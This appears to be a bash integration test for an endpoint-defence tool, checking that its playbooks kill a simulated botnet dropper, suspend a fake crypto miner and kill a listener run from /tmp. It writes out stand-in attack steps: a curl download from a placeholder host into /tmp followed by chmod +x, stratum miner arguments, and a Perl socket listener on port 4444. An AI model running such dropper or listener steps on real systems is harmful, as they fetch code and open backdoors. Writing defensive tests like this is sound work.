#!/usr/bin/env bash
# SPDX-License-Identifier: Apache-2.0
# Shipped playbooks against what they are for, alone and pushed: a dropper's program is killed with its tree, a miner is
# suspended, a program that listens from /tmp is cut off and killed.

. "$(dirname "$0")/lib.sh"
export WORLD_USERNS=no RULES=yes		# a user namespace may load no BPF
world_enter "$@"
needs_bpf
[ -e /usr/local/share/caltrop/caltrop-rules.pack ] || skip "no pack was built"
cast
guard_conf <<-EOF
	[process]
	enabled = yes
	[network]
	enabled = yes
EOF
fleet_start
books=$TOP/ports/linux/playbooks
runs() { [ "$(counter playbooks)" = "$1" ]; }
gone() { ! kill -0 "$1" 2>/dev/null; }
halted() { grep -q '^State:.*T' "/proc/$1/status"; }
# drop NAME: what a botnet does; the program that then runs is $PID_dropped.
drop()
{
	on device sh -c "cp /bin/sleep /tmp/$1; curl -s -m 1 -o /tmp/x http://192.0.2.99/x; chmod +x /tmp/$1" >/dev/null 2>&1
	start dropped on device "/tmp/$1" 600
}
for book in botnet_dropper miner rogue_listener; do
	desk playbook push $books/$book.yml --device device >/dev/null || fail "$book is not pushed"
done
wait_for 20 "three playbooks run" runs 3

stop server
drop dropped
wait_for 10 "what was dropped is killed" gone $PID_dropped
start miner on device bash -c 'while :; do sleep 1; done' x stratum+tcp://198.51.100.7:3333
wait_for 10 "the miner is suspended" halted $PID_miner
cp "$(command -v perl)" /tmp/perl
start rogue on device /tmp/perl -MIO::Socket::IP -e '
	my $s = IO::Socket::IP->new(LocalHost => "0.0.0.0", LocalPort => 4444, Listen => 9) or die; sleep 600'
wait_for 10 "who listens from /tmp is killed" gone $PID_rogue
service_start
told() { has_receipt ".origin == \"playbook\" and .rule == \"$1\" and .verb == \"$2\" and .result == \"done\""; }
wait_for 20 "the service hears of the dropper" told botnet_dropper kill
wait_for 20 "of the miner" told miner suspend
wait_for 20 "and of the listener" told rogue_listener kill

# By hand.
desk playbook withdraw miner --device device >/dev/null || fail "it is not withdrawn"
wait_for 20 "the device runs two" runs 2
start other on device bash -c 'while :; do sleep 1; done' y stratum+tcp://198.51.100.8:3333
found() { id=$(desk incident list --limit 0 --json | jq -r "[.items[] | select(.subject | test(\"\\\\[$PID_other\\\\]\"))][0].id // empty"); [ -n "$id" ]; }
wait_for 20 "there is an incident" found
check_not "nobody was suspended" halted $PID_other
desk playbook push $books/miner.yml --incident "$id" --device device --wait >/tmp/said 2>&1
wait_for 10 "the same is pushed, and suspends" halted $PID_other
